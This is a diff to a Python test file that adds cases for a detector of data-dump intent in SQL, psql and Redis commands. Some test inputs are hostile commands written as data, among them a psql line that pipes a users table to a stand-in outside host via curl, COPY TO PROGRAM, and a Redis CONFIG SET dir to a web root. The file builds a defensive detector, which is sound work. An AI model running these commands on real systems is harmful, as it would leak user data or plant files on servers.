@@ -338,6 +338,16 @@ def test_dump_intent(path: str, cmdline: str | list[str], intent: str, output: s
         ("CONFIG SET dir /var/www/html", "CONFIG SET dir", "/var/www/html"),
         ("BGSAVE", "SAVE", ""),
         ("fs.writeFileSync('/tmp/u.json', JSON.stringify(db.users.find().toArray()))", "writeFile", "/tmp/u.json"),
+        ("\\o |gzip > /tmp/x.gz", "\\o program", ""),  # output piped to a program
+        ("select * from users \\g |curl -T - https://e.example", "\\g program", ""),
+        ("SELECT * FROM users \\g (format=csv) /tmp/u.csv", "\\g", "/tmp/u.csv"),  # psql 16 options
+        ("pager cat > /tmp/session.txt", "pager", "/tmp/session.txt"),
+        (".once --bom /tmp/a.csv", ".output", "/tmp/a.csv"),
+        ("select lo_export(16401, '/tmp/blob.bin')", "lo_export", "/tmp/blob.bin"),
+        # a `to` inside a string literal is data, not the target
+        ("\\copy (select * from a where b = 'to x') to '/tmp/y.csv'", "\\copy to", "/tmp/y.csv"),
+        ("COPY t TO '/tmp/a'; COPY u TO '/tmp/b'", "COPY TO", "/tmp/a"),
+        ("COPY t TO PROGRAM 'gzip > /tmp/t.gz'", "COPY TO PROGRAM", ""),
     ],
 )
 def test_sql_dump_intent(text: str, intent: str, path: str) -> None:
@@ -345,7 +355,12 @@ def test_sql_dump_intent(text: str, intent: str, path: str) -> None:
     assert found is not None and (found.intent, found.path) == (intent, path)
 
 
-@pytest.mark.parametrize("text", ["", "select * from users", "copy users from '/tmp/u.csv'", "\\copy t from stdin", "SHOW TABLES"])
+@pytest.mark.parametrize(
+    "text",
+    ["", "select * from users", "copy users from '/tmp/u.csv'", "\\copy t from stdin", "SHOW TABLES",
+     "select 1 into @v", ".once -x", "pager less", "select pg_read_file('/etc/hostname')",
+     "select 'copy x to y'"],
+)
 def test_sql_without_dump_intent(text: str) -> None:
     assert sql_dump_intent(text) is None
 
